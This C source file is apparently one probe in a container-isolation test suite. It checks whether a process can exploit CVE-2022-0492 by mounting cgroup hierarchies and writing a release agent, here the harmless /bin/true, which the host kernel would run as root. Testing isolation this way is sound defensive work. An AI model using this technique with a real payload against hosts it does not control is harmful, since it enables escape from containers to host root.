/* CVE-2022-0492: the kernel starts what the file names, as the host's root. */
#include "../program/attack.h"

#include <sys/mount.h>

static int mount_hierarchy(const char *options)
{
    return mount("cgroup", "/tmp", "cgroup", 0, options);
}

static struct outcome attempt(const struct facts *facts)
{
    static const char *const HIERARCHIES[] = {"memory", "pids",  "cpu",
                                              "cpuset", "blkio", "none,name=attack"};
    int error = 0;
    (void)facts;
    own_mounts();
    for (size_t i = 0; i < sizeof(HIERARCHIES) / sizeof(HIERARCHIES[0]); i++) {
        if (mount_hierarchy(HIERARCHIES[i]) < 0) {
            error = error ? error : errno;
            continue;
        }
        int agent = open("/tmp/release_agent", O_WRONLY);
        if (agent >= 0 && write(agent, "/bin/true", 9) > 0)
            return succeeded("of %s", HIERARCHIES[i]);
        error = errno == ENOENT ? EACCES
                                : errno; /* its own group is not the root, which has the file */
        (void)umount2("/tmp", MNT_DETACH);
    }
    return refused(error);
}

ATTACK("name a release agent of the host", attempt, EPERM, EACCES)
